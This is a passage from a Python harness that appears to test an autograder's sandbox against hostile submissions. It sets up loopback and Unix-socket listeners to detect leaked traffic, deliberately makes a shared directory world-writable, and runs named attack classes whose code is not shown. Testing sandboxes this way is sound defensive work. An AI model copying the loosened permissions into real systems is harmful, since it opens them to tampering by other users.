        self.address = self.sock.getsockname() if family == socket.AF_INET else address
        self.received = 0

    def drain(self) -> None:
        if self.sock.type == socket.SOCK_DGRAM:
            self.received += len(self.sock.recv(1 << 16))
            return
        connection, _ = self.sock.accept()
        with connection:
            connection.settimeout(2)
            try:
                while chunk := connection.recv(1 << 16):
                    self.received += len(chunk)
            except OSError:
                pass


@contextmanager
def listeners(scratch: Path) -> Iterator[dict[str, Ear]]:
    shared = Path(tempfile.mkdtemp(prefix="optlab-bench-shared-"))  # world-writable, as a /tmp/shared
    os.chmod(shared, 0o1777)
    ears = {
        "udp": Ear(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
        "tcp": Ear(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
        "pathname unix": Ear(socket.AF_UNIX, socket.SOCK_STREAM, str(shared / "listener")),
        "abstract unix": Ear(socket.AF_UNIX, socket.SOCK_STREAM, f"\0optlab-bench-{uuid.uuid4().hex}"),
    }
    os.chmod(shared / "listener", 0o777)
    stop = threading.Event()

    def serve() -> None:
        by_socket = {ear.sock: ear for ear in ears.values()}
        while not stop.is_set():
            for ready in select.select(list(by_socket), [], [], 0.2)[0]:
                by_socket[ready].drain()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield ears
    finally:
        stop.set()
        thread.join()
        for ear in ears.values():
            ear.sock.close()
        subprocess.run(["rm", "-rf", str(shared)], check=False)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", choices=list(CLASSES), action="append", help="this class only (repeatable)")
    attacks = [attack for names in CLASSES.values() for attack in names]
    parser.add_argument("--skip", action="append", default=[], choices=attacks, help="leave this attack out "
                        "(repeatable): flood and big_answers took minutes before the fixes")  # fmt: skip
    parser.add_argument("--each", action="store_true", help="one otter run per submitted file")
    parser.add_argument("--kit", type=Path, default=HERE, help="the checkout that grades (default: this one)")
    args = parser.parse_args()
    if os.geteuid() != 0:
        print(
            "note: not root: the uid, mount and cgroup layers are off, and so is Otter's path as Gradescope "
            "runs it"
        )
    print(
        f"kit: {args.kit.resolve()} ({git_head(args.kit)}); machine: {os.cpu_count()} CPUs, load "
        f"{os.getloadavg()[0]:.2f}\n"
    )
    if args.kit.resolve() != HERE:
        global MEASURED
        MEASURED = "here:   "
    started = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="optlab-bench-attacks-") as scratch:
        os.chmod(scratch, 0o755)
        bench = Bench(Kit(args.kit.resolve(), Path(scratch)), HERE, Path(scratch), args.each)
        for klass in args.only or CLASSES:
            for attack in CLASSES[klass]:
                if attack not in args.skip:
                    getattr(bench, attack)()
            print()
    print(
        f"{len(ROWS)} rows in {time.perf_counter() - started:.0f} s; load at the end {os.getloadavg()[0]:.2f}"
    )


def git_head(root: Path) -> str:
    run = subprocess.run(["git", "-C", str(root), "rev-parse", "--short", "HEAD"], capture_output=True,
                         text=True, check=False)  # fmt: skip
    return run.stdout.strip() or "not a git checkout"


if __name__ == "__main__":
    main()
